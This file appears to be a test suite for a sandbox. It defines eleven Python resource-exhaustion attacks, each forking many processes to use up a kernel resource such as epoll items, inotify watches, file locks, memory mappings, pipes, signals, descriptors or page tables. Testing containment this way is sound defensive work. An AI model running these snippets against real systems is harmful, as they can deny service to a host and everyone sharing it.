import { LIBC } from '../../adversarial/python/target.js';
import { type Attack, python } from '../support/attack.js';

/** Returns code that runs `what` in each of this many processes, which keep what they get. */
const each = (processes: number, what: string): string => `
${LIBC}
for _ in range(${processes}):
    try:
        if os.fork() == 0: break
    except OSError: break
try:
${what.trim().replaceAll(/^/gm, '    ')}
except (OSError, MemoryError, ValueError) as error: print(error)
time.sleep(600)`;

/** Attacks that exhaust resources which the kernel counts per user or not at all. */
export const kernel: Attack[] = [
  python(
    'items of epoll',
    each(
      20,
      `
import select
read, _ = os.pipe()
copies = [os.dup(read) for _ in range(450)]
polls = []
while True:
    polls.append(select.epoll())
    for fd in copies: polls[-1].register(fd, 1)`,
    ),
  ),
  python(
    'watches of inotify',
    each(
      10,
      `
while True:
    fd = libc.inotify_init()
    if fd < 0: break
    for at, _, _ in os.walk("/usr"): libc.inotify_add_watch(fd, at.encode(), 0xFFF)`,
    ),
  ),
  python(
    'message queues',
    each(
      4,
      `
n = 0
while libc.mq_open(b"/q%d.%d" % (os.getpid(), n), 0o102, 0o600, None) >= 0: n += 1
libc.msgget(0, 0o1600)`,
    ),
  ),
  python(
    'contexts of asynchronous input and output',
    each(
      4,
      `
context = ctypes.c_ulong(0)
while libc.syscall(206 if os.uname().machine == "x86_64" else 0, 1024, ctypes.byref(context)) == 0: context.value = 0`,
    ),
  ),
  python(
    'locks of files',
    each(
      8,
      `
import fcntl
file = open("locks%d" % os.getpid(), "w")
n = 0
while True:
    n += 2
    fcntl.lockf(file, fcntl.LOCK_EX, 1, n)`,
    ),
  ),
  python(
    'mappings',
    each(
      24,
      `
import mmap
held = []
while True: held.append(mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | len(held) % 2 * mmap.PROT_WRITE))`,
    ),
  ),
  python(
    'socket filters',
    each(
      16,
      `
import socket, struct
code = struct.pack("HBBI", 6, 0, 0, 0) * 2000
buffer = ctypes.create_string_buffer(code)
held = []
while True:
    held.append(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM))
    held[-1].setsockopt(socket.SOL_SOCKET, 26, struct.pack("HxxxxxxP", 2000, ctypes.addressof(buffer)))`,
    ),
  ),
  python(
    'full pipes',
    each(
      16,
      `
import fcntl
while True:
    _, write = os.pipe()
    os.set_blocking(write, False)
    try: fcntl.fcntl(write, 1031, 1 << 20)
    except OSError: pass
    try:
        while True: os.write(write, bytes(65536))
    except BlockingIOError: pass`,
    ),
  ),
  python(
    'signals that wait, and timers',
    each(
      8,
      `
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, {40})
while libc.sigqueue(os.getpid(), 40, None) == 0: pass
timer = ctypes.c_void_p()
while libc.timer_create(1, None, ctypes.byref(timer)) == 0: pass`,
    ),
  ),
  python(
    'descriptors, and descriptors on their way',
    each(
      100,
      `
import socket
one, other = socket.socketpair()
other.setblocking(False)
one.setblocking(False)
try:
    while True: socket.send_fds(one, [b"x"], [libc.eventfd(0, 0) for _ in range(8)])
except OSError: pass
while libc.eventfd(0, 0) >= 0: pass`,
    ),
  ),
  python(
    'page tables',
    each(
      8,
      `
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_size_t]
size = 1 << 37
at = libc.mmap(None, size, 1, 0x4022, -1, 0)
while at in (None, 0xFFFFFFFFFFFFFFFF):
    size >>= 1
    at = libc.mmap(None, size, 1, 0x4022, -1, 0)
for offset in range(0, size, 1 << 21): ctypes.c_char.from_address(at + offset).value`,
    ),
  ),
];
